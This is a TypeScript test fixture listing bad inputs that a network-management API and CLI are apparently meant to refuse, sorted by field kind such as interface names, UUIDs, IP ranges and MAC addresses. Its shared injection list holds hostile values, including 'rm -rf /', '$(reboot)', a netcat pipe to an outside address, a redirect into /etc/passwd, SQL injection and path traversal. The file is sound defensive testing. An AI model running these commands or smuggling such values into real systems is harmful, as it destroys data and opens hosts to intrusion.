/**
 * The bad-input corpus (issue 7): values that every edge (API body, URL, query, CLI
 * option) must refuse, by the kind of field they are sent to. Each case has a name
 * that says what it is, for `it.each` titles. Values are JSON values: the API sends
 * them as they are; the CLI takes only the string ones (`asArgs`).
 */

export interface Bad {
  /** What the value is, e.g. `shell $(reboot)`. */
  name: string;
  value: unknown;
  /** Bad only as a JSON type (a number where a string goes): on a command line it is text like any other. */
  jsonOnly?: boolean;
}

/** What a field holds: each kind has its own list of values that must be refused. */
export type Kind =
  | 'text' // free text: labels, pool names, descriptions (printable Unicode is fine)
  | 'ifname' // bridge and interface names: reach `ip` command lines
  | 'project' // project ids
  | 'host' // host names and instance hostnames: reach dnsmasq's hosts file
  | 'uuid'
  | 'ipv4' // one IPv4 address
  | 'ipv6' // one IPv6 address
  | 'cidr4' // an IPv4 network (no host bits)
  | 'cidr6' // an IPv6 network
  | 'cidr' // a network of either family (a security group rule's source)
  | 'range4' // a floating range: an IPv4 network or one IPv4 address
  | 'mac'
  | 'bool'
  | 'null'; // a value that must be null (Nova's action bodies)

const bad = (name: string, value: unknown): Bad => ({ name, value });
const wrongType = (name: string, value: unknown): Bad => ({ name, value, jsonOnly: true });

const MEGABYTE = 'a'.repeat(1 << 20);

/** Strings no name, id or address may be: shell, SQL, control characters, size. */
const INJECTION: Bad[] = [
  bad('shell ;rm -rf /', ';rm -rf /'),
  bad('shell $(reboot)', '$(reboot)'),
  bad('shell backticks', '`reboot`'),
  bad('shell pipe', 'x|nc 198.51.100.1 9'),
  bad('shell && chain', 'x && reboot'),
  bad('shell redirect', 'x>/etc/passwd'),
  bad('newline', 'a\nb'),
  bad('CR LF', 'a\r\nb'),
  bad('NUL', 'a\u0000b'),
  bad('tab', 'a\tb'),
  bad('SQL quote-or', "' OR 1=1 --"),
  bad('SQL drop table', '"; DROP TABLE networks; --'),
  bad('non-ASCII', 'réseau'),
  bad('emoji', 'net🔥'),
  bad('path traversal', '../../etc/passwd'),
  bad('leading dash (option injection)', '-rf'),
  bad('300 characters', 'a'.repeat(300)),
  bad('1 MB', MEGABYTE),
  bad('empty string', ''),
  bad('spaces only', '   '),
];

/** JSON values of the wrong type for a string field. */
const NOT_A_STRING: Bad[] = [
  wrongType('number', 42),
  wrongType('float', 1.5),
  wrongType('boolean', true),
  wrongType('list', ['a']),
  wrongType('object', { a: 1 }),
];

/** Free text may be any printable Unicode; these are not printable or not a size a label has. */
const BAD_TEXT: Bad[] = [
  bad('newline', 'a\nb'),
  bad('CR LF', 'a\r\nb'),
  bad('NUL', 'a\u0000b'),
  bad('escape sequence', 'a\u001b[2Jb'),
  bad('DEL', 'a\u007fb'),
  bad('unicode line separator', 'a\u2028b'),
  bad('unicode paragraph separator', 'a\u2029b'),
  bad('next-line control', 'a\u0085b'),
  bad('right-to-left override', 'a\u202eb'),
  bad('300 characters', 'a'.repeat(300)),
  bad('1 MB', MEGABYTE),
  bad('empty string', ''),
];

const IFNAME: Bad[] = [
  bad('16 characters (over IFNAMSIZ)', 'br0123456789abcd'),
  bad('slash', 'br/0'),
  bad('space', 'br 0'),
  bad('semicolon', 'br0;reboot'),
  bad('newline between two names', 'br0\neth0'),
  bad('dot dot', '..'),
  bad('dot', '.'),
  bad('colon (alias syntax)', 'eth0:1'),
  bad('percent', 'br%d'),
];

const UUID: Bad[] = [
  bad('not a uuid', 'not-a-uuid'),
  bad('uuid missing a digit', '00000000-0000-4000-8000-00000000001'),
  bad('uuid with an extra digit', '00000000-0000-4000-8000-0000000000011'),
  bad('uuid in braces', '{00000000-0000-4000-8000-000000000001}'),
  bad('uuid with a non-hex digit', '00000000-0000-4000-8000-00000000000g'),
  bad('uuid without dashes and short', '0000000000004000800000000000001'),
  bad('uuid with a trailing newline', '00000000-0000-4000-8000-000000000001\n'),
  bad('uuid with SQL', "00000000-0000-4000-8000-000000000001' OR '1'='1"),
];

const IPV4: Bad[] = [
  bad('IPv4-mapped IPv6', '::ffff:10.0.0.1'),
  bad('octet 256', '10.0.0.256'),
  bad('leading zeros', '010.0.0.1'),
  bad('with a prefix', '10.0.0.1/24'),
  bad('three octets', '10.0.0'),
  bad('five octets', '10.0.0.1.5'),
  bad('hex', '0x0a000001'),
  bad('one integer', '167772161'),
  bad('negative octet', '10.0.0.-1'),
  bad('IPv6', '2001:db8::1'),
  bad('address and a command', '10.0.0.1;reboot'),
  bad('address and a newline', '10.0.0.1\n10.0.0.2'),
  bad('zone id', '10.0.0.1%eth0'),
  // Issue 16: these were trimmed into an address.
  bad('address with a blank before', ' 10.0.0.1'),
  bad('address with an ideographic space after', '10.0.0.1\u3000'),
];

const IPV6: Bad[] = [
  bad('IPv4', '10.0.0.1'),
  bad('IPv4-mapped IPv6', '::ffff:10.0.0.1'),
  bad('two double colons', '2001::db8::1'),
  bad('group too long', '2001:db8::12345'),
  bad('zone id', 'fe80::1%eth0'),
  bad('with a prefix', '2001:db8::1/64'),
  bad('IPv6 address with a blank before', ' 2001:db8::1'),
];

const CIDR4: Bad[] = [
  bad('host bits set', '10.0.0.1/24'),
  bad('prefix /33', '10.0.0.0/33'),
  bad('negative prefix', '10.0.0.0/-1'),
  bad('empty prefix', '10.0.0.0/'),
  bad('no prefix', '10.0.0.0'),
  bad('two prefixes', '10.0.0.0/24/24'),
  bad('leading zeros in the network', '010.0.0.0/24'),
  bad('octet 256 in the network', '10.0.0.256/30'),
  bad('IPv4-mapped IPv6 range', '::ffff:10.0.0.0/120'),
  bad('IPv6 range', '2001:db8::/64'),
  bad('netmask form', '10.0.0.0/255.255.255.0'),
  bad('prefix and a command', '10.0.0.0/24;reboot'),
  bad('enormous prefix', '10.0.0.0/99999999999999999999'),
  bad('range with a blank before', ' 10.0.0.0/24'),
  bad('range with a newline after', '10.0.0.0/24\n'),
];

const CIDR6: Bad[] = [
  bad('host bits set', '2001:db8::1/64'),
  bad('prefix /129', '2001:db8::/129'),
  bad('IPv4 range', '10.0.0.0/24'),
  bad('IPv4-mapped IPv6 range', '::ffff:10.0.0.0/104'),
  bad('no prefix', '2001:db8::'),
];

/** Bad in both families: each list without what the other family takes. */
const CIDR_EITHER: Bad[] = [
  ...CIDR4.filter((entry) => !/IPv6/.test(entry.name)),
  ...CIDR6.filter((entry) => !/IPv4 range|IPv4-mapped/.test(entry.name)).map((entry) => ({ ...entry, name: `IPv6 ${entry.name}` })),
];

/** A floating range also takes one address: a bare address is fine, the rest is not. */
const RANGE4: Bad[] = CIDR4.filter((entry) => entry.name !== 'no prefix').concat(IPV4.filter((entry) => entry.name !== 'with a prefix'));

const MAC: Bad[] = [
  bad('five octets', 'fa:16:3e:00:00'),
  bad('seven octets', 'fa:16:3e:00:00:01:02'),
  bad('non-hex digit', 'fa:16:3e:00:00:0g'),
  bad('dashes', 'fa-16-3e-00-00-01'),
  bad('no separators', 'fa163e000001'),
  bad('MAC and a command', 'fa:16:3e:00:00:01;reboot'),
  bad('MAC and a newline', 'fa:16:3e:00:00:01\n'),
];

const BOOL: Bad[] = [
  bad('maybe', 'maybe'),
  bad('number 2', 2),
  bad('list', [true]),
  bad('object', { value: true }),
  bad('shell', '$(reboot)'),
];

/** Case names are test titles: two alike would hide one of them. */
function unique(cases: Bad[]): Bad[] {
  const names = cases.map((entry) => entry.name);
  const twice = names.find((name, index) => names.indexOf(name) !== index);
  if (twice !== undefined) throw new Error(`two bad-input cases are named ${JSON.stringify(twice)}`);
  return cases;
}

/** Bad values for a string field of `kind`: the kind's own, the shared injection set, wrong types. */
export function badValues(kind: Kind): Bad[] {
  return unique(valuesOf(kind));
}

function valuesOf(kind: Kind): Bad[] {
  switch (kind) {
    case 'text':
      return [...BAD_TEXT, ...NOT_A_STRING];
    case 'ifname':
      return [...IFNAME, ...INJECTION, ...NOT_A_STRING];
    case 'project':
    case 'host':
      return [...INJECTION, ...NOT_A_STRING];
    case 'uuid':
      return [...UUID, ...INJECTION, ...NOT_A_STRING];
    case 'ipv4':
      return [...IPV4, ...INJECTION, ...NOT_A_STRING];
    case 'ipv6':
      return [...IPV6, ...INJECTION, ...NOT_A_STRING];
    case 'cidr4':
      return [...CIDR4, ...INJECTION, ...NOT_A_STRING];
    case 'cidr6':
      return [...CIDR6, ...INJECTION, ...NOT_A_STRING];
    case 'cidr':
      return [...CIDR_EITHER, ...INJECTION, ...NOT_A_STRING];
    case 'range4':
      return [...RANGE4, ...INJECTION, ...NOT_A_STRING];
    case 'mac':
      return [...MAC, ...INJECTION, ...NOT_A_STRING];
    case 'bool':
      return BOOL;
    case 'null':
      return [bad('string', 'x'), bad('number', 0), bad('false', false), bad('object', {}), bad('list', [])];
  }
}

/**
 * Bad values for an integer field that takes `min`..`max`: just outside the range,
 * negative, enormous, past 2^53, fractions, number-like strings, other JSON types.
 */
export function badIntegers(min: number, max: number): Bad[] {
  const cases: Bad[] = [
    bad(`below the minimum (${min - 1})`, min - 1),
    bad(`above the maximum (${max + 1})`, max + 1),
    bad('negative', -1),
    bad('1e308', 1e308),
    bad('2^53+1 as text', '9007199254740993'),
    bad('1e9', 1e9),
    bad('fraction', min + 0.5),
    bad('NaN as text', 'NaN'),
    bad('Infinity as text', 'Infinity'),
    bad('exponent as text', '1e3'),
    bad('hex as text', '0x10'),
    bad('digits and letters', '12abc'),
    bad('digits and a command', '1;reboot'),
    bad('boolean', true),
    bad('list', [min]),
    bad('object', { value: min }),
  ];
  // Drop a "negative" or "1e9" that is in fact in range, and duplicates of the edges.
  const seen = new Set<string>();
  return cases.filter((entry) => {
    const numeric = typeof entry.value === 'number' ? entry.value : undefined;
    if (numeric !== undefined && Number.isInteger(numeric) && numeric >= min && numeric <= max) return false;
    const key = JSON.stringify(entry.value);
    if (seen.has(key)) return false;
    seen.add(key);
    return true;
  });
}

/** The cases a command line can carry: strings, and numbers as their text (not the JSON-type ones). */
export function asArgs(cases: Bad[]): { name: string; value: string }[] {
  return cases.flatMap((entry) => {
    if (entry.jsonOnly) return [];
    if (typeof entry.value === 'string') return [{ name: entry.name, value: entry.value }];
    if (typeof entry.value === 'number') return [{ name: entry.name, value: String(entry.value) }];
    return [];
  });
}
